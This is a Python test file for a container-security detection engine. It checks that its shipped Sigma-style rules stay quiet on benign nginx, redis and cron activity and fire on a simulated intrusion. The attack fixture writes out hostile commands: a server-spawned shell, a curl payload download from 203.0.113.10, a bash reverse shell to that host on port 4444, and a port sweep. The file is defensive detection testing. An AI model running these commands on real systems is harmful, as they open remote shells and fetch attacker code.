"""Every shipped rule's own tests, and what all of them together must not do."""

from __future__ import annotations

import pytest

from correlator import sample, sigma, testing
from correlator.engine import Engine
from correlator.ruleset import LogSource, Rule, RuleTest
from ecs_mappings.event import encode

RULES = sigma.load([sigma.SHIPPED])
CASES = [(rule, test) for rule in RULES.rules for test in rule.tests]

EXEC = LogSource("tocsin.process", "exec")
CONNECT = LogSource("tocsin.network", "connect")


@pytest.mark.parametrize(("rule", "test"), CASES, ids=[f"{rule.name}: {test.name}" for rule, test in CASES])
def test_rule(rule: Rule, test: RuleTest) -> None:
    result = testing.run_one(RULES, rule, test)
    assert result.passed, f"{result.file}:{result.line}: {result.detail}"


def test_shipped_rules_load_without_a_warning() -> None:
    assert RULES.warnings == ()
    assert {rule.name for rule in RULES.rules if rule.alerts} == {
        "download-tool-in-container",
        "evidence-cut",
        "hidden-in-cgroups",
        "interactive-shell-in-container",
        "network-sweep",
        "package-manager-in-container",
        "port-scan",
        "reverse-shell",
        "shell-by-server",
        "unexpected-egress",
    }


@pytest.mark.parametrize("rule", [r for r in RULES.rules if r.alerts], ids=lambda r: r.name)
def test_a_shipped_rule_says_all_that_people_need(rule: Rule) -> None:
    assert rule.description and rule.falsepositives and rule.references and rule.author and rule.date
    assert any(tag.startswith("attack.t") for tag in rule.tags)


def exec_(executable: str, line: str, parent: str, *above: str, **more: object) -> tuple[dict[str, object], LogSource]:
    chain = [{"executable": x} for x in (parent, *above)]
    name = executable.rpartition("/")[2]
    process = {"executable": executable, "name": name, "args": line.split(), "command_line": line, "interactive": False}
    detail = {"stdin": "char", "stdout": "pipe", "ancestors": chain}
    return {"process": {**process, "parent": {"executable": parent}}, "tocsin": {"process": detail}, **more}, EXEC


def connect(ip: str, port: int, **more: object) -> tuple[dict[str, object], LogSource]:
    return {"destination": {"ip": ip, "port": port}, "network": {"transport": "tcp"}, **more}, CONNECT


SHIM = "/usr/bin/containerd-shim-runc-v2"
BENIGN = [
    # nginx: the image's entrypoint, its scripts, master and workers, upstream connections, a health check
    exec_("/usr/bin/dash", "/bin/sh /docker-entrypoint.sh nginx -g daemon off;", SHIM),
    exec_("/usr/bin/find", "/usr/bin/find /docker-entrypoint.d/ -mindepth 1 -maxdepth 1 -type f", "/usr/bin/dash"),
    exec_("/usr/bin/dash", "/bin/sh /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh", "/usr/bin/dash"),
    exec_("/usr/sbin/nginx", "nginx -g daemon off;", SHIM),
    *[connect("172.18.0.5", 8080) for _ in range(60)],
    exec_("/usr/bin/dash", "/bin/sh -c curl -f http://localhost/ || exit 1", SHIM),
    exec_("/usr/bin/curl", "curl -f http://localhost/", "/usr/bin/dash"),
    connect("127.0.0.1", 80),
    connect("::1", 80),
    connect("127.0.0.11", 53),
    # redis
    exec_("/bin/busybox", "/bin/sh /usr/local/bin/docker-entrypoint.sh redis-server", SHIM),
    exec_("/bin/busybox", "id -u", "/bin/busybox"),
    exec_("/usr/local/bin/redis-server", "redis-server *:6379", SHIM),
    exec_("/usr/local/bin/redis-cli", "redis-cli ping", SHIM),
    # a cron-like worker in busybox and in Debian
    exec_("/bin/busybox", "crond -f -l 8", SHIM),
    exec_("/bin/busybox", "/bin/sh -c run-parts /etc/periodic/15min", "/bin/busybox", "/bin/busybox"),
    exec_("/bin/busybox", "run-parts /etc/periodic/15min", "/bin/busybox", "/bin/busybox"),
    exec_("/bin/busybox", "sh /etc/periodic/15min/backup", "/bin/busybox", "/bin/busybox"),
    exec_("/bin/busybox", "tar -czf /backup/data.tgz /data", "/bin/busybox"),
    exec_("/bin/busybox", "nc -z redis 6379", "/bin/busybox"),
    exec_(
        "/usr/bin/dash", "/bin/sh -c test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily", "/usr/sbin/cron"
    ),
    exec_("/usr/bin/dash", "/bin/sh /etc/cron.daily/dpkg", "/usr/bin/run-parts", "/usr/bin/dash", "/usr/sbin/cron"),
    exec_("/usr/bin/dpkg", "dpkg --print-foreign-architectures", "/usr/bin/dash"),
    connect("172.18.0.3", 6379),
    connect("10.0.0.7", 5432),
    # a job that waits for its database
    exec_("/usr/bin/bash", "bash ./wait-for-it.sh db:5432 -- python app.py", SHIM),
    exec_("/usr/bin/bash", "timeout 15 bash -c (echo > /dev/tcp/db/5432) >/dev/null 2>&1", "/usr/bin/bash"),
    exec_("/usr/local/bin/python3.12", "python app.py --install-signal-handlers", SHIM),
]


def test_benign_containers_raise_no_alert() -> None:
    engine = Engine(RULES)
    lines = [encode(sample.event([partial], i, source)) for i, (partial, source) in enumerate(BENIGN * 5)]
    alerts = engine.feed(0, lines)
    assert [alert.message for alert in alerts] == []
    assert engine.counts["malformed"] == engine.counts["failed"] == 0


def test_one_attack_is_seen_by_the_rules_for_it() -> None:
    attack = [
        exec_("/usr/bin/dash", "sh -c id", "/usr/sbin/nginx"),
        exec_("/usr/bin/curl", "curl -so /tmp/x http://203.0.113.10/x", "/usr/bin/dash", "/usr/sbin/nginx"),
        connect("203.0.113.10", 80),
        exec_(
            "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1", "/usr/bin/dash", "/usr/sbin/nginx"
        ),
        *[connect("172.18.0.3", port) for port in range(1, 40)],
    ]
    engine = Engine(RULES)
    lines = [encode(sample.event([partial], i, source)) for i, (partial, source) in enumerate(attack)]
    opened = [str(a.rule.id) for a in engine.feed(0, lines) if a.rule and a.event.action == "opened"]
    assert sorted(opened) == [
        "download-tool-in-container",
        "port-scan",
        "reverse-shell",
        "shell-by-server",
        "unexpected-egress",
    ]
